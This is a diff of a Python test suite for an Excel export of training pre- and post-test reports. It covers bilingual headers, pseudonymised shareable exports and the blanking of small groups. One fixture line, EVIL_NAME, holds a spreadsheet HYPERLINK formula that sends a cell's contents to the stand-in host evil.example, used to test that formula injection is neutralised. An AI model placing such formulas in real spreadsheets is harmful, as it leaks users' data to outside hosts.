@@ -18,6 +18,8 @@ from assessment.reports.data import EventData, ratings_frame, scores_frame, wide
 from assessment.reports.statistics import build_report
 
 SECRET = "installation-secret"
+#: p-values as the page shows them: "< 0.001" below a thousandth, else three decimals
+P_VALUE = '[<0.001]"< 0.001";0.000'
 CHARTS = ("by_level", "by_department", "participant_change", "distribution", "by_topic",
           "item_facility")
 EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -93,11 +95,13 @@ def report_and_answers():
     return report, wide_by_person(data, "value"), wide_by_person(data, "points")
 
 
-def workbook_bytes(lang: str = "en", pseudonymise: bool = False, secret: str = SECRET) -> bytes:
+def workbook_bytes(lang: str = "en", pseudonymise: bool = False, secret: str = SECRET,
+                   header_codes: bool = False) -> bytes:
     return excel.build_workbook(
         *report_and_answers(),
         dict.fromkeys(CHARTS, tiny_png()), lang=lang, pseudonymise=pseudonymise,
-        event_title="สัมมนาเมืองอัจฉริยะ =1+1", event_date=date(2020, 1, 16), secret=secret)
+        event_title="สัมมนาเมืองอัจฉริยะ =1+1", event_date=date(2020, 1, 16), secret=secret,
+        header_codes=header_codes)
 
 
 def opened(content: bytes):
@@ -107,6 +111,18 @@ def opened(content: bytes):
 @pytest.fixture(scope="module")
 def english():
     return opened(workbook_bytes("en"))
+
+
+@pytest.fixture(scope="module")
+def english_codes():
+    """The English workbook with the columns' codes as headers, as scripts read it."""
+    return opened(workbook_bytes("en", header_codes=True))
+
+
+@pytest.fixture(scope="module")
+def shareable():
+    """The export without names, for anyone outside HR."""
+    return opened(workbook_bytes("en", pseudonymise=True, header_codes=True))
 
 
 @pytest.fixture(scope="module")
@@ -142,15 +158,27 @@ def row_of(sheet, header: str, value):
 def test_sheets_in_order_in_english(english):
     assert english.sheetnames == ["Summary", "By level", "By department", "By topic",
                                   "Participants", "Items", "Responses", "Scores", "Not paired",
-                                  "Charts"]
+                                  "Charts", "Columns"]
 
 
 def test_sheets_in_order_in_thai(thai):
     assert thai.sheetnames == ["สรุป", "ตามระดับ", "ตามหน่วยงาน", "ตามหัวข้อ", "ผู้เข้าร่วม",
-                               "รายข้อ", "คำตอบ", "คะแนน", "ไม่ครบคู่", "แผนภูมิ"]
+                               "รายข้อ", "คำตอบ", "คะแนน", "ไม่ครบคู่", "แผนภูมิ",
+                               "คำอธิบายคอลัมน์"]
 
 
-def test_english_headers_are_the_machine_names(english):
+def test_english_headers_are_words(english):
+    assert headers(english["By level"])[:4] == [
+        "Staff level", "People who took both tests", "Took only the pre-test",
+        "Took only the post-test"]
+    assert {"Employee ID", "Name", "Department", "Pre-test score (%)", "Gain (points of %)",
+            "Normalised gain (g)"} <= set(headers(english["Participants"]))
+    assert not {"n_paired", "g_of_averages", "employee_id"} & {
+        header for sheet in english.worksheets[:9] for header in headers(sheet)}
+
+
+def test_header_codes_for_scripts_are_the_machine_names(english_codes):
+    english = english_codes
     group_columns = ["n_paired", "pre_mean_percent", "post_mean_percent", "mean_gain",
                      "g_of_averages", "mean_of_g", "p_paired_t", "p_wilcoxon", "d_z"]
     for sheet, name in (("By level", "level"), ("By department", "department")):
@@ -170,10 +198,11 @@ def test_thai_headers_are_thai_words(thai):
         "รหัสพนักงาน", "ชื่อ-สกุล", "หน่วยงาน", "ระดับตำแหน่ง", "ครั้งที่ทดสอบ", "q1"]
 
 
-def test_numbers_are_numeric_cells_with_formats(english):
+def test_numbers_are_numeric_cells_with_formats(english_codes):
+    english = english_codes
     sheet = english["By department"]
     for header, number_format in (("n_paired", "0"), ("pre_mean_percent", "0.0"),
-                                  ("p_paired_t", "0.000"), ("g_of_averages", "0.00")):
+                                  ("p_paired_t", P_VALUE), ("g_of_averages", "0.00")):
         cells = [cell for cell in column(sheet, header) if cell.value is not None]
         assert cells
         assert all(cell.data_type == "n" for cell in cells)
@@ -182,7 +211,8 @@ def test_numbers_are_numeric_cells_with_formats(english):
     assert all(cell.data_type == "n" and cell.number_format == "0.0%" for cell in facility)
 
 
-def test_missing_numbers_are_empty_cells_never_nan(english):
+def test_missing_numbers_are_empty_cells_never_nan(english_codes):
+    english = english_codes
     sheet = english["Participants"]
     only_before = row_of(sheet, "name", "Only Before")
     post = headers(sheet).index("post_percent") + 1
@@ -210,7 +240,8 @@ def test_formula_like_text_stays_text(english):
     assert not [cell for cell in every_cell(english) if cell.data_type == "f"]
 
 
-def test_answers_and_points_one_row_per_person_and_phase(english):
+def test_answers_and_points_one_row_per_person_and_phase(english_codes):
+    english = english_codes
     responses, scores = english["Responses"], english["Scores"]
     assert headers(responses)[5:] == ["q1", "q2", "q3", "q4", "r1"]
     assert responses.max_row - 1 == scores.max_row - 1 == 14 * 2 + 2
@@ -250,22 +281,83 @@ def test_pseudonyms_are_stable_across_sheets_and_exports():
     assert excel.pseudonym("another-installation", 7) != expected
 
 
-def test_people_in_small_groups_are_never_named(english):
-    small = people().loc[[13, 14, 16]]
-    values = {str(cell.value) for cell in every_cell(english)}
-    assert not values & (set(small["name"]) | set(small["employee_id"]))
-    participants = english["Participants"]
-    row = row_of(participants, "name", excel.pseudonym(SECRET, 13))
+def test_hr_workbook_names_everyone_even_in_small_groups(english_codes):
+    """HR follows up people who missed a test: every name and employee ID is in its workbook."""
+    values = {str(cell.value) for cell in every_cell(english_codes)}
+    assert all_names_and_ids() <= values
+    participants = english_codes["Participants"]
+    row = row_of(participants, "name", "วิไล ช่างคิด")
     cells = {header: participants.cell(row, i + 1).value
              for i, header in enumerate(headers(participants))}
-    assert cells["employee_id"] is None
+    assert cells["employee_id"] == "E013"
     assert cells["note"] == "⚠ in a group of fewer than 5"
-    not_paired = english["Not paired"]
-    assert excel.pseudonym(SECRET, 16) in {cell.value for cell in column(not_paired, "name")}
-    assert "Only Before" in {cell.value for cell in column(not_paired, "name")}
+    assert {"Only Before", "Only After Works"} <= {
+        cell.value for cell in column(english_codes["Not paired"], "name")}
 
 
-def test_small_groups_are_marked(english):
+def test_shareable_export_leaves_small_groups_blank(shareable):
+    """Works has two paired people: who they are and what they scored cannot be worked out."""
+    sheet = shareable["By department"]
+    row = row_of(sheet, "department", WORKS)
+    cells = {header: sheet.cell(row, i + 1).value for i, header in enumerate(headers(sheet))}
+    assert cells["n_paired"] == 2
+    for statistic in ("pre_mean_percent", "post_mean_percent", "mean_gain", "g_of_averages",
+                      "p_paired_t", "d_z", "d_z_ci_low", "n_excluded_from_g"):
+        assert cells[statistic] is None, statistic
+    assert cells["note"] == "⚠ fewer than 5 people: left blank"
+    big = row_of(sheet, "department", FINANCE)
+    assert sheet.cell(big, headers(sheet).index("pre_mean_percent") + 1).value is not None
+    for name in ("Participants", "Responses", "Scores", "Not paired"):
+        assert not {"department", "level", "level_group"} & set(headers(shareable[name])), name
+    assert WORKS not in {str(cell.value) for cell in every_cell(shareable)
+                         if cell.parent.title in ("Participants", "Responses", "Scores")}
+
+
+def test_shareable_export_leaves_out_charts_of_small_groups(shareable, english):
+    titles = {cell.value for cell in every_cell(shareable) if cell.parent.title == "Charts"}
+    assert "Pre and post by department" not in titles
+    assert {"Gain by topic", "Pre and post by staff level"} <= titles  # one level of 14
+    assert len(shareable["Charts"]._images) == len(CHARTS) - 1
+    assert len(english["Charts"]._images) == len(CHARTS)
+
+
+def test_p_values_read_as_the_page_shows_them_and_stay_numbers(english_codes):
+    summary = english_codes["Summary"]
+    cell = next(row[1] for row in summary.iter_rows(min_row=4)
+                if row[0].value == "p-value, paired t-test")
+    assert cell.data_type == "n" and isinstance(cell.value, float)
+    assert cell.number_format == P_VALUE
+
+
+def test_columns_sheet_lists_every_header_with_its_code_and_meaning(english, thai):
+    for book, intro in ((english, "Every column header"), (thai, "หัวคอลัมน์ทุกคอลัมน์")):
+        sheet = book.worksheets[-1]
+        assert str(sheet["A1"].value).startswith(intro)
+        listed = {row[0]: (row[1], row[2]) for row in sheet.iter_rows(min_row=4,
+                                                                        values_only=True)}
+        for table in book.worksheets[1:6]:
+            for header in filter(None, headers(table)):
+                assert header in listed, (table.title, header)
+                code, meaning = listed[header]
+                assert code and meaning, header
+    english_columns = {row[1]: row[0] for row in english.worksheets[-1].iter_rows(
+        min_row=4, values_only=True)}
+    assert english_columns["g_of_averages"] == "Normalised gain of the averages ⟨g⟩"
+    assert english_columns["p_paired_t"] == "p-value (paired t-test)"
+
+
+def test_items_sheet_repeats_the_moves_on_pre_and_post_rows(english_codes):
+    sheet = english_codes["Items"]
+    phases = column(sheet, "phase")
+    for move in ("learned", "forgot", "kept", "never_knew"):
+        cells = column(sheet, move)
+        for phase in ("pre", "post"):
+            rows = [cell for cell, when in zip(cells, phases, strict=True) if when.value == phase]
+            assert rows and all(cell.data_type == "n" for cell in rows), (move, phase)
+
+
+def test_small_groups_are_marked(english_codes):
+    english = english_codes
     sheet = english["By department"]
     row = row_of(sheet, "department", WORKS)
     notes = {header: sheet.cell(row, i + 1).value for i, header in enumerate(headers(sheet))}
@@ -282,7 +374,8 @@ def test_summary_in_thai(thai):
     labels = {row[0].value: row[1] for row in sheet.iter_rows(min_row=5) if row[0].value}
     assert labels["จำนวนผู้ทำแบบทดสอบครบทั้งก่อนและหลังอบรม"].value == 14
     assert labels["คะแนนเฉลี่ยก่อนอบรม (%)"].number_format == "0.0"
-    assert labels["ค่า p (paired t-test)"].number_format == "0.000"
+    assert labels["ค่า p (paired t-test)"].number_format == P_VALUE
+    assert labels["ค่า p (paired t-test)"].data_type == "n"
     assert "ความเชื่อมั่นของแบบทดสอบก่อนอบรม (Cronbach's alpha)" in labels
     assert labels["ขนาดกลุ่มขั้นต่ำ (คน)"].value == 5
     assert any("นับเฉพาะผู้ที่ทำแบบทดสอบครบ" in str(text) for text in texts)
@@ -294,7 +387,7 @@ def test_summary_in_english_has_reliability_per_phase(english):
     texts = [cell.value for cell in every_cell(english) if cell.parent.title == "Summary"]
     assert "16 January 2020" in texts
     assert "Reliability by phase (Cronbach's alpha)" in texts
-    assert "alpha" in texts
+    assert "Reliability (alpha)" in texts
     assert any("Only people who took both" in str(text) for text in texts)
 
 
@@ -346,8 +439,28 @@ def test_workbook_before_the_post_test():
                          ratings_frame(attempts, answers, bank), answers, attempts)
     report = build_report(pre_only.participants, pre_only.scores, pre_only.questions,
                           pre_only.ratings, min_group_size=5)
-    book = opened(excel.build_workbook(
+    books = [opened(excel.build_workbook(
         report, wide_by_person(pre_only, "value"), wide_by_person(pre_only, "points"), {},
-        lang="en", secret=SECRET))
-    assert book["Not paired"].max_row == 1 + len(people()) - 1
-    assert not {str(cell.value) for cell in every_cell(book)} & all_names_and_ids()
+        lang="en", secret=SECRET, pseudonymise=shareable)) for shareable in (False, True)]
+    named, shareable = books
+    assert named["Not paired"].max_row == 1 + len(people()) - 1
+    assert not {str(cell.value) for cell in every_cell(shareable)} & all_names_and_ids()
+
+
+def test_shareable_export_of_a_small_event_keeps_only_its_counts():
+    """14 paired people under a minimum of 20: the whole event is a small group."""
+    data = event_data()
+    report = build_report(data.participants, data.scores, data.questions, data.ratings,
+                          min_group_size=20)
+    summaries = []
+    for shareable in (False, True):
+        book = opened(excel.build_workbook(
+            report, wide_by_person(data, "value"), wide_by_person(data, "points"), {},
+            lang="en", secret=SECRET, pseudonymise=shareable))
+        summaries.append({row[0]: row[1] for row in book["Summary"].iter_rows(values_only=True)})
+    named, shareable = summaries
+    assert named["Mean pre-test score (%)"] is not None and named["Effect size, Cohen's d_z"]
+    assert shareable["People who took both tests (paired)"] == 14
+    for label in ("Mean pre-test score (%)", "Mean post-test score (%)",
+                  "p-value, paired t-test", "Effect size, Cohen's d_z"):
+        assert shareable[label] is None, label
